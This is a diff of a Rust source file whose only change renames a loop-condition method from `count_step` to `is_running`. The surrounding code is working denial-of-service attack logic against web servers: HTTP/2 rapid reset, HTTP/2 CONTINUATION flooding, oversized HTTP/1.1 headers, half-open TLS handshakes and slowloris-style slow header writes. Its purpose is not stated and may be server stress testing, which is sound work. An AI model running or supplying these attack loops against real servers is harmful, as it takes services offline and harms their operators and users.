@@ -134,7 +134,7 @@ impl Attack {
         attackers
     }
 
-    fn count_step(&self) -> bool {
+    fn is_running(&self) -> bool {
         !self.stop.load(Ordering::Relaxed)
     }
 
@@ -144,7 +144,7 @@ impl Attack {
 
     /// Opens streams and resets each at once (rapid reset).
     async fn rapid_reset(self) {
-        while self.count_step() {
+        while self.is_running() {
             let Some(mut stream) = self.connect("h2").await else { continue };
             if stream.write_all(&preface()).await.is_err() {
                 continue;
@@ -156,7 +156,7 @@ impl Attack {
                     frames.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                 }
                 let written = timeout(Duration::from_secs(1), stream.write_all(&frames)).await;
-                if !matches!(written, Ok(Ok(()))) || !self.count_step() {
+                if !matches!(written, Ok(Ok(()))) || !self.is_running() {
                     break;
                 }
                 self.streams_reset.fetch_add(100, Ordering::Relaxed);
@@ -168,12 +168,12 @@ impl Attack {
     async fn continuation_flood(self) {
         // A literal header with a name and a value, never indexed.
         let header = [&[0x10, 1, b'a', 0x7f, 0x81, 0x7f][..], &[b'x'; 16_000]].concat();
-        while self.count_step() {
+        while self.is_running() {
             let Some(mut stream) = self.connect("h2").await else { continue };
             let mut opening = preface();
             opening.extend(frame(HEADERS, 0, 1, REQUEST));
             let mut broken = stream.write_all(&opening).await.is_err();
-            while !broken && self.count_step() {
+            while !broken && self.is_running() {
                 let next = frame(CONTINUATION, 0, 1, &header);
                 let written = timeout(Duration::from_secs(1), stream.write_all(&next)).await;
                 broken = !matches!(written, Ok(Ok(())));
@@ -184,7 +184,7 @@ impl Attack {
 
     /// Sends a header above the size limit.
     async fn oversized_headers(self) {
-        while self.count_step() {
+        while self.is_running() {
             let Some(mut stream) = self.connect("http/1.1").await else { continue };
             let mut broken = stream.write_all(b"GET / HTTP/1.1\r\nhost: x\r\na: ").await.is_err();
             for _ in 0..512 {
@@ -202,14 +202,14 @@ impl Attack {
     /// Begins a TLS handshake and waits; connects again when it is closed.
     async fn half_open_handshake(self) {
         let address = self.endpoint.authority();
-        while self.count_step() {
+        while self.is_running() {
             let Ok(mut stream) = TcpStream::connect(&address).await else { continue };
             self.opened.fetch_add(1, Ordering::Relaxed);
             if stream.write_all(b"\x16\x03\x01\x02\x00").await.is_err() {
                 continue;
             }
             let mut rest = [0; 64];
-            while self.count_step() {
+            while self.is_running() {
                 let read = timeout(Duration::from_millis(500), stream.read(&mut rest)).await;
                 if matches!(read, Ok(Ok(0) | Err(_))) {
                     break;
@@ -229,10 +229,10 @@ impl Attack {
             ),
             false => "GET /api HTTP/1.1\r\nhost: x\r\na: ".to_owned(),
         };
-        while self.count_step() {
+        while self.is_running() {
             let Some(mut stream) = self.connect("http/1.1").await else { continue };
             let mut broken = stream.write_all(head.as_bytes()).await.is_err();
-            while !broken && self.count_step() {
+            while !broken && self.is_running() {
                 sleep(Duration::from_millis(200)).await;
                 broken = stream.write_all(b" ").await.is_err() || stream.flush().await.is_err();
             }
